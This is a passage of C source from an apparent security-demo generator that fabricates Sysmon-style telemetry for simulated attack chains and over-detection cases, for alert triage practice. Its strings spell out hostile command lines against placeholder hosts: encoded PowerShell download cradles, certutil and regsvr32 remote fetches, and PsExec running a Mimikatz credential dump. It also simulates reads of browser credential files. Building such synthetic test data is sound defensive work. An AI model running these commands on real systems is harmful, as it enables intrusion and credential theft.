/* attack.c - the demo's alerts: which endpoint, when, what happened before
 * the detection (the Sysmon-like events of an attack chain or of an
 * over-detected program), and what the analysts have done since.
 *
 * Chains (each leaves what the quick report's eight items look for: the
 * writer of the detected file with its download origin, the process chain
 * to its execution, its children, files, registry and network):
 *   macro    Outlook attachment -> Word/Excel (VBE7.DLL) -> PowerShell
 *            -enc download cradle -> dropped exe -> discovery, C2 beacons
 *   script   browser download of a zip -> explorer extracts a .js ->
 *            wscript -> PowerShell IEX DownloadString -> DLL -> rundll32
 *   lolbin   HTA -> mshta -> certutil -urlcache -> exe; or regsvr32
 *            /i:http scrobj.dll -> DLL -> rundll32
 *   runkey   a fake updater writes an exe and HKCU\...\Run\OneDriveUpdate;
 *            explorer starts it at the next logon -> C2, credential files
 *   lateral  PsExec-like from a PC onto the file server: PSEXESVC service,
 *            a credential tool copied over SMB and run by cmd
 *   pua      a bundled PDF converter installer; its updater runs from a
 *            scheduled task and is detected again and again (duplicates)
 *   inhouse  the customer's own unsigned attendance tool (over-detection)
 *   devtool  a developer's freshly built packer (over-detection)
 * In a tenant that blocks detected files (mode block) a chain stops where
 * the file is detected: nothing after it runs. */
#include <stdlib.h>
#include <string.h>

#include "demo/demo.h"

static const char *const CHAIN_NAMES[CH_COUNT] = {
	"macro", "script", "lolbin", "runkey", "lateral", "pua", "inhouse", "devtool",
};

const char *chain_name(enum chain_kind k)
{
	return k < CH_COUNT ? CHAIN_NAMES[k] : "?";
}

/* Attacker infrastructure: documentation names and addresses only. */
static const struct {
	const char *domain, *ip;
} C2[] = {
	{"cdn-officeupdate.example.net", "203.0.113.45"},
	{"invoice-jp.example.org", "198.51.100.23"},
	{"sync-drive.example.com", "192.0.2.77"},
	{"static-cdn-tokyo.example.net", "203.0.113.118"},
	{"free-pdf-tools.example.com", "198.51.100.140"},
	{"api-telemetry.example.org", "192.0.2.201"},
};
enum { C2_OFFICE, C2_INVOICE, C2_SYNC, C2_TOKYO, C2_PDF, C2_TELE };

/* ---- the plan ---- */

/* slot: 0 the tenant's file server, N its Nth PC, -1/-2 the first/second
 * PC of a Japanese-named user, -3/-4 the first/second developer PC. */
struct spec {
	const char *tenant;
	int slot, src_slot;
	enum chain_kind kind;
	int variant;
	int recv_min;
	int group;
	const char *steps;
};

static const struct spec SPECS[] = {
	/* acme: auto-isolate, allowlist, non-block */
	{"acme", -1, 0, CH_MACRO, 1, 8, 0, ""},
	{"acme", 3, 0, CH_LOLBIN, 0, 98, 0, ""},
	{"acme", 4, 0, CH_SCRIPT, 0, 172, 0, ""},
	{"acme", 5, 0, CH_RUNKEY, 0, 40, 0, "claim"},
	{"acme", 6, 0, CH_MACRO, 0, 55, 0, "claim quick:black"},
	{"acme", 0, 10, CH_LATERAL, 0, 300, 0, "claim quick:black:explain publish:quick escalate"},
	{"acme", 7, 0, CH_PUA, 0, 26 * 60, 0, "claim quick:white publish:quick"},
	{"acme", -2, 0, CH_PUA, 0, 70, 1, ""},
	{"acme", -2, 0, CH_PUA, 0, 50, 1, ""},
	{"acme", -2, 0, CH_PUA, 0, 31, 1, ""},
	{"acme", -2, 0, CH_PUA, 0, 12, 1, ""},
	{"acme", 9, 0, CH_LOLBIN, 1, 30 * 60,
	 0, "claim quick:black:explain publish:quick explain:black publish:explain"},
	/* globex: auto-exception, block */
	{"globex", 3, 0, CH_SCRIPT, 0, 25, 0, ""},
	{"globex", 4, 0, CH_LOLBIN, 1, 105, 0, ""},
	{"globex", 5, 0, CH_INHOUSE, 0, 240, 0, "claim quick:white publish:quick close"},
	{"globex", 6, 0, CH_MACRO, 0, 30 * 60,
	 0, "claim quick:gray publish:quick explain:gray publish:explain"},
	{"globex", 7, 0, CH_PUA, 0, 50 * 60,
	 0, "claim quick:gray publish:quick explain:gray publish:explain answer:yes"},
	{"globex", 11, 0, CH_RUNKEY, 0, 20 * 60,
	 0, "claim quick:black:explain publish:quick explain:black"},
	{"globex", 0, 10, CH_LATERAL, 0, 190, 0, ""},
	{"globex", 9, 0, CH_PUA, 0, 40 * 60, 2, "claim quick:gray publish:quick"},
	{"globex", 9, 0, CH_PUA, 0, 28 * 60, 2, ""},
	{"globex", 9, 0, CH_PUA, 0, 6 * 60, 2, ""},
	{"globex", -1, 0, CH_MACRO, 1, 15, 0, ""},
	{"globex", 12, 0, CH_INHOUSE, 0, 75, 0, ""},
	/* initech: onboarding (alerts are not triaged, R-8) */
	{"initech", -3, 0, CH_DEVTOOL, 0, 180, 0, ""},
	{"initech", -4, 0, CH_DEVTOOL, 0, 26 * 60, 0, ""},
	{"initech", 3, 0, CH_PUA, 0, 48 * 60, 0, "close"},
	{"initech", 5, 0, CH_LOLBIN, 0, 300, 0, ""},
	{"initech", -1, 0, CH_SCRIPT, 0, 50, 0, ""},
};

/* Upper bound of (detection - chain start) per kind. */
static int64_t lead_of(enum chain_kind k, bool rerun)
{
	switch (k) {
	case CH_MACRO: return 90 * US_SEC;
	case CH_SCRIPT: return 70 * US_SEC;
	case CH_LOLBIN: return 50 * US_SEC;
	case CH_RUNKEY: return 2 * US_SEC;
	case CH_LATERAL: return 12 * US_SEC;
	case CH_PUA: return rerun ? 2 * US_SEC : 60 * US_SEC;
	case CH_INHOUSE: return 2 * US_SEC;
	case CH_DEVTOOL: return 45 * US_SEC;
	default: return 60 * US_SEC;
	}
}

static int resolve_slot(const struct endpoint *eps, size_t neps, const char *tenant, int slot)
{
	int nth = 0, jp = 0, dev = 0;
	for (size_t i = 0; i < neps; i++) {
		if (strcmp(eps[i].t->name, tenant) != 0)
			continue;
		if (slot >= 0 && nth == slot)
			return (int)i;
		if (slot == -1 - jp && eps[i].jp_user)
			return (int)i;
		if (eps[i].jp_user)
			jp++;
		if (slot == -3 - dev && eps[i].dev)
			return (int)i;
		if (eps[i].dev)
			dev++;
		nth++;
	}
	die("plan: no endpoint for slot %d of %s", slot, tenant);
}

static void mal_hash(uint64_t seed, const char *what, int n, char out[65])
{
	char key[128];
	snprintf(key, sizeof key, "itrace-demo|%llu|%s|%d", (unsigned long long)seed, what, n);
	hash_hex(key, out, 64);
}

void plan_alerts(struct demo_plan *p, const struct endpoint *eps, size_t neps,
                 uint64_t seed, int64_t now)
{
	struct rng r;
	rng_seed(&r, seed, 0x706c616eu);
	p->n = NELEM(SPECS);
	p->a = xcalloc(p->n, sizeof *p->a);
	for (size_t i = 0; i < p->n; i++) {
		const struct spec *s = &SPECS[i];
		struct plan_alert *a = &p->a[i];
		a->ep = resolve_slot(eps, neps, s->tenant, s->slot);
		a->src_ep = s->src_slot > 0 ? resolve_slot(eps, neps, s->tenant, s->src_slot) : -1;
		for (size_t t = 0; t < N_TENANTS; t++)
			if (strcmp(TENANTS[t].name, s->tenant) == 0)
				a->tenant = (int)t;
		a->kind = s->kind;
		a->variant = s->variant;
		a->recv_off = s->recv_min * US_MIN;
		a->group = s->group;
		a->steps = s->steps;
		a->blocked = strcmp(TENANTS[a->tenant].mode, "block") == 0;
		a->action = a->blocked ? "blocked" : "allowed";
		for (size_t j = 0; j < i; j++)
			if (s->group != 0 && p->a[j].group == s->group)
				a->rerun = true;
		/* received: the minute asked, a few seconds off; detected a
		 * little before; the chain starts a lead before that */
		a->received = now - a->recv_off - rng_range(&r, 0, 40) * US_SEC -
		              rng_range(&r, 0, 1000) * US_MS;
		int64_t delay = rng_range(&r, 8, 75) * US_SEC + rng_range(&r, 0, 1000) * US_MS;
		a->t0 = a->received - delay - lead_of(a->kind, a->rerun);
		a->detected = 0;
	}
}

void plan_free(struct demo_plan *p)
{
	for (size_t i = 0; i < p->n; i++) {
		free(p->a[i].path);
		free(p->a[i].sha256);
	}
	free(p->a);
	p->a = NULL;
	p->n = 0;
}

/* ---- sessions for the chains ---- */

void plan_sessions_for_chains(struct epgen *g, struct host_plan *hp, struct demo_plan *p)
{
	for (size_t i = 0; i < p->n; i++) {
		struct plan_alert *a = &p->a[i];
		if (a->src_ep == g->e->idx) {
			ensure_session(g, hp, a->t0 - 10 * US_MIN, a->t0 + 5 * US_MIN);
			continue;
		}
		if (a->ep != g->e->idx || g->e->server)
			continue;
		if (a->kind != CH_RUNKEY) {
			ensure_session(g, hp, a->t0 - 10 * US_MIN, a->received + 5 * US_MIN);
			continue;
		}
		/* run key: the file starts at a logon: a session begins just
		 * before the detection; the installer ran in an earlier one */
		int64_t S = a->t0 - 14 * US_SEC;
		for (size_t k = 0; k < hp->ns;) {
			struct session *s = &hp->s[k];
			if (s->end >= S - 30 * US_MIN && s->start <= S + US_MIN) {
				if (s->start < S - 3 * US_HOUR) {
					s->end = S - rng_range(&g->r, 5, 30) * US_MIN;
					k++;
				} else {
					memmove(s, s + 1, (hp->ns - k - 1) * sizeof *s);
					hp->ns--;
				}
			} else {
				k++;
			}
		}
		bool earlier = false;
		for (size_t k = 0; k < hp->ns; k++)
			if (hp->s[k].end < S && hp->s[k].end > S - 3 * US_DAY &&
			    hp->s[k].end - hp->s[k].start > US_HOUR)
				earlier = true;
		if (!earlier)
			ensure_session(g, hp, S - 6 * US_HOUR, S - 4 * US_HOUR);
		/* the new logon, then merge anything it now overlaps */
		int64_t end = S + rng_range(&g->r, 90, 240) * US_MIN;
		ensure_session(g, hp, S + 30 * US_MIN, end);   /* adds or extends */
		for (size_t k = 0; k < hp->ns; k++)
			if (hp->s[k].start <= S + 30 * US_MIN && hp->s[k].end >= S + 30 * US_MIN)
				hp->s[k].start = S;
		for (size_t k = 0; k + 1 < hp->ns;) {
			if (hp->s[k + 1].start <= hp->s[k].end) {
				if (hp->s[k + 1].end > hp->s[k].end)
					hp->s[k].end = hp->s[k + 1].end;
				memmove(&hp->s[k + 1], &hp->s[k + 2], (hp->ns - k - 2) * sizeof *hp->s);
				hp->ns--;
			} else {
				k++;
			}
		}
	}
}

/* ---- helpers ---- */

static struct session *need_session(struct epgen *g, struct host_plan *hp, int64_t t)
{
	struct session *s = session_at(hp, t);
	if (s == NULL || s->explorer == NULL)
		die("%s: no logon session at the chain's time", g->e->host);
	return s;
}

static void base64(struct sb *b, const unsigned char *p, size_t n)
{
	static const char A[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
		             (i + 2 < n ? p[i + 2] : 0);
		sb_putc(b, A[v >> 18 & 63]);
		sb_putc(b, A[v >> 12 & 63]);
		sb_putc(b, i + 1 < n ? A[v >> 6 & 63] : '=');
		sb_putc(b, i + 2 < n ? A[v & 63] : '=');
	}
}

/* powershell -enc: UTF-16LE of an ASCII script, base64. */
static char *ps_enc(const char *script)
{
	size_t n = strlen(script);
	unsigned char *u = xmalloc(2 * n);
	for (size_t i = 0; i < n; i++) {
		u[2 * i] = (unsigned char)script[i];
		u[2 * i + 1] = 0;
	}
	struct sb b = {0};
	sb_puts(&b, "-nop -w hidden -enc ");
	base64(&b, u, 2 * n);
	free(u);
	return b.p;
}

/* A program that is not in the catalogue (dropped, downloaded). */
static struct proc *evil(struct epgen *g, struct proc *parent, const char *image,
                         const char *cmdline, int64_t t, const char *sha, bool loads)
{
	struct proc *p = proc_new(g, parent, image, cmdline, parent->user, parent->integrity, t);
	p->sha256 = eg_str(g, sha);
	p->fam = FAM_NONE;
	ev_proc_start(g, p);
	if (loads)
		ev_image_loads(g, p, 2 /* network DLLs */, -1);
	return p;
}

static struct proc *lolbin(struct epgen *g, struct proc *parent, const char *key,
                           const char *args, int64_t t)
{
	struct proc *p = run_app(g, parent, key, args, t, 0);
	p->fam = FAM_NONE;
	return p;
}

/* C2: a DNS query, then a connection every ~every seconds. */
static void beacon(struct epgen *g, struct proc *p, int64_t t, int64_t until, int c2, int port,
                   int every, int max)
{
	if (until > g->now)
		until = g->now;
	bool first = true;
	for (int i = 0; i < max && t < until; i++) {
		ev_net(g, p, t, C2[c2].domain, C2[c2].ip, port, first);
		first = false;
		t += rng_range(&g->r, every * 7 / 10, every * 13 / 10 + 1) * US_SEC;
	}
}

static void discovery(struct epgen *g, struct proc *parent, int64_t t)
{
	struct proc *cmd = lolbin(g, parent, "cmd.exe",
	                          "/c whoami /all & net user /domain & net group \"domain admins\" /domain", t);
	ev_proc_end(g, run_app(g, cmd, "whoami.exe", "/all", t + 200 * US_MS, 0), t + 600 * US_MS);
	ev_proc_end(g, run_app(g, cmd, "net.exe", "user /domain", t + 900 * US_MS, 0), t + 3 * US_SEC);
	ev_proc_end(g, run_app(g, cmd, "net.exe", "group \"domain admins\" /domain", t + 3300 * US_MS, 0),
	            t + 5 * US_SEC);
	ev_proc_end(g, cmd, t + 5200 * US_MS);
}

static int64_t user_until(struct host_plan *hp, int64_t t)
{
	struct session *s = session_at(hp, t);
	return s != NULL ? s->end : t + 4 * US_HOUR;
}

static void set_alert(struct plan_alert *a, const char *path, const char *sha,
                      const char *detection, int64_t det)
{
	if (a->path == NULL)
		a->path = xstrdup(path);
	if (a->sha256 == NULL)
		a->sha256 = xstrdup(sha);
	a->detection = detection;
	a->detected = det;
	if (det >= a->received)
		die("plan: %s detected after it was received", path);
}

/* ---- the chains ---- */

static void ch_macro(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	struct session *s = need_session(g, hp, a->t0);
	const struct endpoint *e = g->e;
	bool jp = a->variant == 1;
	int64_t t = a->t0;
	char doc_sha[65], exe_sha[65];
	mal_hash(g->seed, "macro-doc", n, doc_sha);
	mal_hash(g->seed, "macro-exe", n, exe_sha);
	t = ev_net(g, s->outlook, t, "outlook.office365.com", dns_addr("outlook.office365.com"), 443, false);
	char *doc = jp ? xprintf("%s\\Documents\\見積書.xlsm", e->profile) :
	            xprintf("%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%08llX\\Invoice_%04d.docm",
	                    e->profile, (unsigned long long)(rng_next(&g->r) & 0xffffffffu), 1100 + n);
	t += 15 * US_SEC;
	ev_file(g, s->outlook, t, EV_FILE_CREATE, doc, doc_sha);
	if (jp)
		ev_stream(g, s->outlook, t + 30 * US_MS, doc, doc_sha, "about:internet", NULL);
	t += 20 * US_SEC;
	char *args = xprintf("/n \"%s\" /o \"\"", doc);
	struct proc *office = lolbin(g, jp ? s->explorer : s->outlook, jp ? "EXCEL.EXE" : "WINWORD.EXE", args, t);
	free(args);
	office->fam = FAM_OFFICE;
	ev_file(g, office, t + 800 * US_MS, EV_FILE_READ, doc, NULL);
	ev_load(g, office, t + 2 * US_SEC, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
	        NULL, true, "Microsoft Corporation");
	if (jp)
		set_alert(a, doc, doc_sha, "TrojanDownloader:O97M/Donoff.SS!MTB", t + 2500 * US_MS);
	if (jp && a->blocked) {
		ev_proc_end(g, office, t + 10 * US_SEC);
		free(doc);
		return;
	}
	t += 6 * US_SEC;
	char *exe = xprintf("%s\\AppData\\Roaming\\Microsoft\\Windows\\msupd%d.exe", e->profile, n % 10);
	char *script = xprintf("$u='https://%s/q/upd.bin';$p=\"$env:APPDATA\\Microsoft\\Windows\\msupd%d.exe\";"
	                       "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p",
	                       C2[C2_OFFICE].domain, n % 10);
	char *enc = ps_enc(script);
	struct proc *ps = lolbin(g, office, "powershell.exe", enc, t);
	free(enc);
	free(script);
	int64_t t2 = ev_net(g, ps, t + 3 * US_SEC, C2[C2_OFFICE].domain, C2[C2_OFFICE].ip, 443, true);
	ev_file(g, ps, t2 + 2 * US_SEC, EV_FILE_CREATE, exe, exe_sha);
	if (!jp)
		set_alert(a, exe, exe_sha, "Trojan:Win32/Emotet.RPX!MTB", t2 + 6 * US_SEC);
	if (!jp && a->blocked) {
		ev_proc_end(g, ps, t2 + 7 * US_SEC);
		ev_proc_end(g, office, t2 + 4 * US_MIN);
		free(exe);
		free(doc);
		return;
	}
	struct proc *m = evil(g, ps, exe, exe, t2 + 5 * US_SEC, exe_sha, true);
	ev_proc_end(g, ps, t2 + 7 * US_SEC);
	ev_proc_end(g, office, t2 + rng_range(&g->r, 3, 20) * US_MIN);
	int64_t t3 = m->start + 20 * US_SEC;
	discovery(g, m, t3);
	char *ld = xprintf("%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", e->profile);
	ev_file(g, m, t3 + 10 * US_SEC, EV_FILE_READ, ld, NULL);
	free(ld);
	char *tmp = xprintf("%s\\AppData\\Local\\Temp\\~DF%04X.tmp", e->profile, (unsigned)(rng_next(&g->r) & 0xffff));
	ev_file(g, m, t3 + 12 * US_SEC, EV_FILE_CREATE, tmp, NULL);
	free(tmp);
	beacon(g, m, m->start + 2 * US_SEC, user_until(hp, m->start), C2_TELE, 443, 60, 120);
	free(exe);
	free(doc);
}

static void ch_script(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	struct session *s = need_session(g, hp, a->t0);
	const struct endpoint *e = g->e;
	int64_t t = a->t0;
	char zip_sha[65], js_sha[65], dll_sha[65];
	mal_hash(g->seed, "script-zip", n, zip_sha);
	mal_hash(g->seed, "script-js", n, js_sha);
	mal_hash(g->seed, "script-dll", n, dll_sha);
	t = ev_net(g, s->browser, t, C2[C2_INVOICE].domain, C2[C2_INVOICE].ip, 443, true);
	char *zip = xprintf("%s\\Downloads\\請求書_%02d25.zip", e->profile, 10 + n % 3);
	char *url = xprintf("https://%s/dl/%%E8%%AB%%8B%%E6%%B1%%82%%E6%%9B%%B8_%02d25.zip", C2[C2_INVOICE].domain,
	                    10 + n % 3);
	ev_file(g, s->browser, t + 2 * US_SEC, EV_FILE_CREATE, zip, NULL);
	ev_stream(g, s->browser, t + 2100 * US_MS, zip, zip_sha, url, "https://mail.google.com/");
	free(url);
	t += 35 * US_SEC;
	char *js = xprintf("%s\\AppData\\Local\\Temp\\Temp1_請求書_%02d25.zip\\請求書_%02d25.js", e->profile,
	                   10 + n % 3, 10 + n % 3);
	ev_file(g, s->explorer, t, EV_FILE_CREATE, js, js_sha);
	if (a->blocked) {
		set_alert(a, js, js_sha, "Trojan:JS/Nemucod.RD!MTB", t + 1500 * US_MS);
		free(js);
		free(zip);
		return;
	}
	t += 12 * US_SEC;
	char *args = xprintf("\"%s\"", js);
	struct proc *ws = lolbin(g, s->explorer, "wscript.exe", args, t);
	free(args);
	set_alert(a, js, js_sha, "Trojan:JS/Nemucod.RD!MTB", t + 900 * US_MS);
	ev_file(g, ws, t + 300 * US_MS, EV_FILE_READ, js, NULL);
	int64_t t2 = ev_net(g, ws, t + 2 * US_SEC, C2[C2_INVOICE].domain, C2[C2_INVOICE].ip, 80, true);
	char *cmd = xprintf("-nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')\"",
	                    C2[C2_INVOICE].ip);
	struct proc *ps = lolbin(g, ws, "powershell.exe", cmd, t2);
	free(cmd);
	int64_t t3 = ev_net(g, ps, t2 + 2 * US_SEC, NULL, C2[C2_INVOICE].ip, 80, false);
	const char *dll = "C:\\Users\\Public\\Libraries\\wsvc.dll";
	ev_file(g, ps, t3 + US_SEC, EV_FILE_CREATE, dll, dll_sha);
	char *rargs = xprintf("%s,DllRegisterServer", dll);
	struct proc *rd = lolbin(g, ps, "rundll32.exe", rargs, t3 + 3 * US_SEC);
	free(rargs);
	ev_load(g, rd, t3 + 3200 * US_MS, dll, dll_sha, false, NULL);
	ev_proc_end(g, ps, t3 + 5 * US_SEC);
	ev_proc_end(g, ws, t3 + 6 * US_SEC);
	discovery(g, rd, t3 + 40 * US_SEC);
	beacon(g, rd, t3 + 5 * US_SEC, user_until(hp, t3), C2_TOKYO, 443, 90, 100);
	free(js);
	free(zip);
}

static void ch_lolbin(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	struct session *s = need_session(g, hp, a->t0);
	int64_t t = a->t0;
	if (a->variant == 0) {
		/* HTA from the browser -> mshta -> certutil download -> exe */
		char hta_sha[65], exe_sha[65];
		mal_hash(g->seed, "lol-hta", n, hta_sha);
		mal_hash(g->seed, "lol-exe", n, exe_sha);
		char *hta = xprintf("%s\\Downloads\\view_document.hta", g->e->profile);
		t = ev_net(g, s->browser, t, C2[C2_SYNC].domain, C2[C2_SYNC].ip, 443, true);
		ev_file(g, s->browser, t + US_SEC, EV_FILE_CREATE, hta, NULL);
		char *url = xprintf("https://%s/doc/view_document.hta", C2[C2_SYNC].domain);
		ev_stream(g, s->browser, t + 1100 * US_MS, hta, hta_sha, url, NULL);
		free(url);
		t += 15 * US_SEC;
		char *args = xprintf("\"%s\"", hta);
		struct proc *mshta = lolbin(g, s->explorer, "mshta.exe", args, t);
		free(args);
		ev_file(g, mshta, t + 400 * US_MS, EV_FILE_READ, hta, NULL);
		t += 8 * US_SEC;
		const char *exe = "C:\\Users\\Public\\p.exe";
		char *cargs = xprintf("-urlcache -split -f http://%s/p.dat %s", C2[C2_OFFICE].ip, exe);
		struct proc *cu = lolbin(g, mshta, "certutil.exe", cargs, t);
		free(cargs);
		int64_t t2 = ev_net(g, cu, t + US_SEC, NULL, C2[C2_OFFICE].ip, 80, false);
		ev_file(g, cu, t2 + US_SEC, EV_FILE_CREATE, exe, exe_sha);
		ev_proc_end(g, cu, t2 + 1500 * US_MS);
		if (a->blocked) {
			set_alert(a, exe, exe_sha, "Trojan:Win32/Qakbot.PE!MTB", t2 + 2 * US_SEC);
			ev_proc_end(g, mshta, t2 + 10 * US_SEC);
			free(hta);
			return;
		}
		struct proc *cmd = lolbin(g, mshta, "cmd.exe", "/c start \"\" C:\\Users\\Public\\p.exe", t2 + 4 * US_SEC);
		struct proc *p = evil(g, cmd, exe, exe, t2 + 5 * US_SEC, exe_sha, true);
		set_alert(a, exe, exe_sha, "Trojan:Win32/Qakbot.PE!MTB", t2 + 5500 * US_MS);
		ev_proc_end(g, cmd, t2 + 6 * US_SEC);
		ev_proc_end(g, mshta, t2 + 9 * US_SEC);
		char *key = xprintf("HKU\\%s\\Software\\Microsoft\\%08llx\\data", g->e->sid,
		                    (unsigned long long)(rng_next(&g->r) & 0xffffffffu));
		ev_reg(g, p, t2 + 15 * US_SEC, EV_REGISTRY_SET, key, "Binary Data");
		free(key);
		discovery(g, p, t2 + 30 * US_SEC);
		beacon(g, p, t2 + 8 * US_SEC, user_until(hp, t2), C2_OFFICE, 443, 120, 80);
		free(hta);
		return;
	}
	/* regsvr32 /i:http scrobj.dll (squiblydoo) -> DLL -> rundll32 */
	char dll_sha[65];
	mal_hash(g->seed, "lol-dll", n, dll_sha);
	char *args = xprintf("/s /n /u /i:http://%s/s.sct scrobj.dll", C2[C2_SYNC].ip);
	struct proc *rs = lolbin(g, s->explorer, "regsvr32.exe", args, t);
	free(args);
	ev_load(g, rs, t + 300 * US_MS, "C:\\Windows\\System32\\scrobj.dll", NULL, true, "Microsoft Windows");
	int64_t t2 = ev_net(g, rs, t + US_SEC, NULL, C2[C2_SYNC].ip, 80, false);
	const char *dll = "C:\\ProgramData\\WinTask\\task.dll";
	ev_file(g, rs, t2 + 2 * US_SEC, EV_FILE_CREATE, dll, dll_sha);
	if (a->blocked) {
		set_alert(a, dll, dll_sha, "Trojan:Win32/IcedID.MK!MTB", t2 + 3 * US_SEC);
		ev_proc_end(g, rs, t2 + 5 * US_SEC);
		return;
	}
	struct proc *rd = lolbin(g, rs, "rundll32.exe", "C:\\ProgramData\\WinTask\\task.dll,DllRegisterServer",
	                         t2 + 4 * US_SEC);
	ev_load(g, rd, t2 + 4200 * US_MS, dll, dll_sha, false, NULL);
	set_alert(a, dll, dll_sha, "Trojan:Win32/IcedID.MK!MTB", t2 + 4500 * US_MS);
	ev_proc_end(g, rs, t2 + 5 * US_SEC);
	char *task = xprintf("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\WinTask\\Id");
	ev_reg(g, rd, t2 + 20 * US_SEC, EV_REGISTRY_SET, task, "{6A1F1E37-8E0B-4B23-A5C1-0D2E4F7A9B31}");
	free(task);
	discovery(g, rd, t2 + 45 * US_SEC);
	beacon(g, rd, t2 + 6 * US_SEC, user_until(hp, t2), C2_SYNC, 443, 75, 100);
}

static void ch_runkey(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n)
{
	const struct endpoint *e = g->e;
	char setup_sha[65], exe_sha[65];
	mal_hash(g->seed, "run-setup", n, setup_sha);
	mal_hash(g->seed, "run-exe", n, exe_sha);
	char *exe = xprintf("%s\\AppData\\Local\\Microsoft\\OneDriveUpdate\\OneDriveStandaloneUpdater.exe",
	                    e->profile);
	/* installation: during the last earlier session */
	struct session *prev = NULL;
	for (size_t i = 0; i < hp->ns; i++)
		if (hp->s[i].end < a->t0 - US_MIN && hp->s[i].explorer != NULL)
			prev = &hp->s[i];
	if (prev == NULL)
		die("%s: no session before the run key logon", e->host);
	int64_t t = prev->start + (prev->end - prev->start) / 2 + rng_range(&g->r, 0, 20) * US_MIN;
	char *setup = xprintf("%s\\Downloads\\ChromeUpdate_v131.exe", e->profile);
	t = ev_net(g, prev->browser, t, C2[C2_TOKYO].domain, C2[C2_TOKYO].ip, 443, true);
	ev_file(g, prev->browser, t + US_SEC, EV_FILE_CREATE, setup, setup_sha);
	char *url = xprintf("https://%s/update/ChromeUpdate_v131.exe", C2[C2_TOKYO].domain);
	ev_stream(g, prev->browser, t + 1100 * US_MS, setup, setup_sha, url, "https://www.google.com/");
	free(url);
	struct proc *su = evil(g, prev->explorer, setup, setup, t + 20 * US_SEC, setup_sha, true);
	ev_file(g, su, t + 23 * US_SEC, EV_FILE_CREATE, exe, exe_sha);
	char *key = xprintf("HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate", e->sid);
	char *val = xprintf("\"%s\" /silent", exe);
	ev_reg(g, su, t + 24 * US_SEC, EV_REGISTRY_SET, key, val);
	ev_proc_end(g, su, t + 26 * US_SEC);
	free(key);
	/* the next logon: explorer starts the Run key entry */
	struct session *s = need_session(g, hp, a->t0 + 5 * US_SEC);
	int64_t ts = s->explorer->start + 11 * US_SEC;
	if (ts < a->t0)
		ts = a->t0;
	if (a->blocked) {
		set_alert(a, exe, exe_sha, "Trojan:Win32/AgentTesla.RPZ!MTB", ts + 300 * US_MS);
	} else {
		struct proc *m = evil(g, s->explorer, exe, val, ts, exe_sha, true);
		set_alert(a, exe, exe_sha, "Trojan:Win32/AgentTesla.RPZ!MTB", ts + 800 * US_MS);
		char *ld = xprintf("%s\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\x1v2k3.default-release\\logins.json",
		                   e->profile);
		ev_file(g, m, ts + 20 * US_SEC, EV_FILE_READ, ld, NULL);
		free(ld);
		ld = xprintf("%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", e->profile);
		ev_file(g, m, ts + 21 * US_SEC, EV_FILE_READ, ld, NULL);
		free(ld);
		char *klg = xprintf("%s\\AppData\\Local\\Temp\\log%02d.dat", e->profile, n % 100);
		for (int i = 0; i < 5; i++)
			ev_file(g, m, ts + (30 + i * 300) * US_SEC, EV_FILE_WRITE, klg, NULL);
		free(klg);
		beacon(g, m, ts + 3 * US_SEC, user_until(hp, ts), C2_TOKYO, 587, 300, 40);
	}
	free(val);
	free(setup);
	free(exe);
}

static void ch_lateral_src(struct epgen *g, struct host_plan *hp, const struct plan_alert *a,
                           const struct endpoint *srv)
{
	struct session *s = need_session(g, hp, a->t0);
	int64_t t = a->t0 - 50 * US_SEC;
	struct proc *cmd = lolbin(g, s->explorer, "cmd.exe", NULL, t);
	char *args = xprintf("C:\\ProgramData\\pse.exe \\\\%s -accepteula -s -d cmd /c \"C:\\Windows\\Temp\\svcupd.exe "
	                     "privilege::debug sekurlsa::logonpasswords exit > C:\\Windows\\Temp\\out.txt\"", srv->host);
	struct proc *pse = proc_new(g, cmd, "C:\\ProgramData\\pse.exe", args, cmd->user, "High", a->t0);
	free(args);
	char sha[65];
	file_hashes("psexec64.exe-2.43", 0, sha, NULL, NULL);
	pse->sha256 = eg_str(g, sha);
	ev_proc_start(g, pse);
	ev_image_loads(g, pse, 2, -1);
	ev_net(g, pse, a->t0 + US_SEC, NULL, srv->ip, 445, false);
	char *unc = xprintf("\\\\%s\\ADMIN$\\Temp\\svcupd.exe", srv->host);
	ev_file(g, cmd, a->t0 - 10 * US_SEC, EV_FILE_WRITE, unc, NULL);
	free(unc);
	ev_proc_end(g, pse, a->t0 + 40 * US_SEC);
	ev_proc_end(g, cmd, a->t0 + 3 * US_MIN);
}

/* An inbound connection (SMB from another PC) accepted by p. */
static void net_in(struct epgen *g, const struct proc *p, int64_t ts, const char *rip, int lport)
{
	ev_begin(g, ts, EV_NET_CONNECT, 3, p);
	ev_str(g, "user", p->user);
	ev_str(g, "proto", "tcp");
	ev_bool(g, "initiated", false);
	ev_str(g, "local_ip", g->e->ip);
	ev_int(g, "local_port", lport);
	ev_str(g, "remote_ip", rip);
	ev_int(g, "remote_port", rng_range(&g->r, 49152, 65535));
	ev_end(g);
}

static void ch_lateral(struct epgen *g, struct host_plan *hp, struct plan_alert *a, int n,
                       const struct endpoint *src)
{
	int64_t t = a->t0 + 2 * US_SEC;
	struct proc *sys = boot_proc(hp, t, "system");
	struct proc *svcs = boot_proc(hp, t, "services");
	char exe_sha[65];
	mal_hash(g->seed, "lateral-tool", n, exe_sha);
	const char *tool = "C:\\Windows\\Temp\\svcupd.exe";
	/* the tool arrives over SMB (ADMIN$) before the service */
	if (src != NULL)
		net_in(g, sys, a->t0 - 10 * US_SEC, src->ip, 445);
	ev_file(g, sys, a->t0 - 9 * US_SEC, EV_FILE_CREATE, tool, exe_sha);
	if (src != NULL)
